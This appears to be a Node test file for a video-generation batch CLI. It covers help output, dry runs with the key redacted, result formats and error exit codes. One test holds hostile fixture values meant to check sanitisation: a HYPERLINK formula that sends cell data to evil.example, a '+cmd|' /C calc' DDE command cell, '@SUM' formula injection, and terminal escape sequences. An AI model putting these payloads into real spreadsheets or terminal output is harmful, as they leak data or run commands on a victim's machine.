// The command's contract where no Temporal run is needed: dry runs, result formats, errors.
import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { startSimulator, type SimHandleExt } from '../../sim';
import { runCli } from '../support/cli';
import { manifestRow } from '../support/storage';
import { tempDir, writeJob } from '../support/jobs';

const KEY = 'sk-test-cli-contract-00000';

describe('the reelflow command', () => {
  let sim: SimHandleExt;
  const env = { ...process.env, GATEWAY_API_KEY: KEY, TEMPORAL_ADDRESS: undefined };

  before(async () => {
    sim = await startSimulator({ ports: [0], keys: [KEY] });
  });
  after(async () => {
    await sim?.close();
  });

  it('--help lists every command of the spec', async () => {
    const result = await runCli(['--help'], { env });
    assert.equal(result.code, 0);
    for (const command of ['validate', 'run', 'status', 'results', 'report', 'cancel', 'schedule', 'worker', 'server', 'sim', 'doctor']) {
      assert.match(result.stdout, new RegExp(`^  ${command}\\b`, 'm'), command);
    }
  });

  it('run --dry-run prints the exact requests with the key redacted and sends nothing', async () => {
    const dir = tempDir();
    const job = writeJob(dir, { name: 'dry', baseUrls: sim.urls, items: [{ id: 'one', prompt: 'a dry prompt' }] });
    const result = await runCli(['run', job, '--dry-run'], { env });
    assert.equal(result.code, 0, result.stderr);
    assert.match(result.stdout, new RegExp(`POST ${sim.urls[0]!.replace(/[.]/g, '\\.')}/v1/video/generations`));
    assert.match(result.stdout, /authorization: Bearer \[REDACTED\] \(the key in \$GATEWAY_API_KEY\)/);
    assert.match(result.stdout, /"prompt": "a dry prompt"/);
    assert.match(result.stdout, /"seconds": "5"/);
    assert.ok(!result.stdout.includes(KEY) && !result.stderr.includes(KEY));
    assert.deepEqual(sim.stats().createsByPrompt, {}, 'nothing was sent');
    const json = await runCli(['run', job, '--dry-run', '--json'], { env });
    const parsed = JSON.parse(json.stdout) as { items: Array<{ request: { body: { model: string } } }> };
    assert.equal(parsed.items[0]!.request.body.model, 'seedance-1-0-pro-250528');
  });

  it('results reads the manifest as a table, JSON or CSV', async () => {
    const dir = tempDir();
    const job = writeJob(dir, {
      name: 'res',
      baseUrls: sim.urls,
      items: [
        { id: 'one', prompt: 'p1' },
        { id: 'two', prompt: 'p2' },
      ],
    });
    const { mkdirSync } = await import('node:fs');
    mkdirSync(join(dir, 'out'));
    const rows = [
      manifestRow(1, { key: 'one', file: '001-one.mp4', bytes: 10, sha256: 'ab'.repeat(32) }),
      manifestRow(2, { key: 'two', state: 'failed', error: { kind: 'render_failed', message: 'content policy, "quoted"' } }),
    ];
    writeFileSync(join(dir, 'out', 'manifest.jsonl'), rows.map((r) => JSON.stringify(r)).join('\n') + '\n');
    const table = await runCli(['results', job], { env });
    assert.equal(table.code, 0, table.stderr);
    assert.match(table.stdout, /one\s+succeeded/);
    assert.match(table.stdout, /two\s+failed.*render_failed: content policy/);
    const csv = await runCli(['results', job, '--format', 'csv'], { env });
    assert.equal(
      csv.stdout.split('\n')[0],
      'index,key,state,model,task_id,base_url,polls,file,bytes,sha256,error,blocked_by,replaced,prompt,enhanced_prompt,cost_usd,cost_source,rewrite_cost_usd,rewrite_cost_source,total_cost_usd',
    );
    assert.match(csv.stdout, /"render_failed: content policy, ""quoted"""/);
    const json = JSON.parse((await runCli(['results', job, '--format', 'json'], { env })).stdout) as Array<{ key: string }>;
    assert.deepEqual(
      json.map((r) => r.key),
      ['one', 'two'],
    );
    const bad = await runCli(['results', job, '--format', 'xml'], { env });
    assert.equal(bad.code, 2);
    assert.match(bad.stderr, /--format must be table, json or csv/);
  });

  it('results make gateway text inert: no formulas in CSV cells, no control sequences on the terminal, long ids cut in tables only', async () => {
    const dir = tempDir();
    const job = writeJob(dir, {
      name: 'hostile',
      baseUrls: sim.urls,
      items: [
        { id: 'one', prompt: 'p1' },
        { id: 'two', prompt: 'p2' },
        { id: 'three', prompt: 'p3' },
      ],
    });
    const { mkdirSync } = await import('node:fs');
    mkdirSync(join(dir, 'out'));
    const longId = `video_${'x'.repeat(124)}`;
    const rows = [
      manifestRow(1, {
        key: 'one',
        task_id: '=HYPERLINK("http://evil.example/?"&A1,"open")',
        file: '001-one.mp4',
        bytes: 10,
        sha256: 'ab'.repeat(32),
      }),
      manifestRow(2, {
        key: 'two',
        task_id: longId,
        state: 'failed',
        error: { kind: 'render_failed', message: "+cmd|' /C calc'!A0 \u001b]0;pwned\u0007\u001b[2J\u001b[1Aafter" },
      }),
      manifestRow(3, { key: 'three', state: 'failed', error: { kind: 'render_failed', message: '@SUM(1+1)\u009b31m' } }),
    ];
    writeFileSync(join(dir, 'out', 'manifest.jsonl'), rows.map((r) => JSON.stringify(r)).join('\n') + '\n');
    const csv = await runCli(['results', job, '--format', 'csv'], { env });
    assert.equal(csv.code, 0, csv.stderr);
    const lines = csv.stdout.trim().split('\n');
    assert.ok(lines[1]!.includes(`"'=HYPERLINK(""http://evil.example/?""&A1,""open"")"`), lines[1]);
    assert.ok(lines[2]!.includes(`render_failed: +cmd|' /C calc'!A0 after`), lines[2]);
    assert.ok(lines[2]!.includes(longId), 'CSV keeps long ids whole');
    assert.ok(lines[3]!.includes(`render_failed: @SUM(1+1)`), lines[3]);
    // A cell that begins with a formula character is prefixed, wherever it stands in the row.
    for (const line of lines.slice(1)) for (const cell of line.split(',')) assert.ok(!/^"?[=+@-]/.test(cell), `formula cell: ${cell}`);
    const table = await runCli(['results', job], { env });
    assert.equal(table.code, 0, table.stderr);
    for (const output of [csv.stdout, table.stdout]) {
      // eslint-disable-next-line no-control-regex -- looking for control characters
      assert.ok(!/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/.test(output), `control characters in ${JSON.stringify(output)}`);
    }
    assert.match(table.stdout, /after/);
    assert.ok(!table.stdout.includes(longId), 'the table cuts a long id');
    assert.match(table.stdout, /video_x+…/);
  });

  it('an unreachable Temporal service is exit 3 saying what was tried and how to fix it', async () => {
    const result = await runCli(['status'], { env: { ...env, TEMPORAL_ADDRESS: '127.0.0.1:1' } });
    assert.equal(result.code, 3, result.stderr);
    assert.match(result.stderr, /cannot reach the Temporal service at 127\.0\.0\.1:1/);
    assert.match(result.stderr, /TEMPORAL_ADDRESS/);
    assert.ok(!/\n\s+at /.test(result.stderr), 'no stack trace without --verbose');
  });

  it('an unknown flag gets a suggestion and exit 2', async () => {
    const result = await runCli(['run', 'x.yaml', '--retry-faild'], { env });
    assert.equal(result.code, 2);
    assert.match(result.stderr, /unknown option '--retry-faild'[\s\S]*--retry-failed/);
  });
});
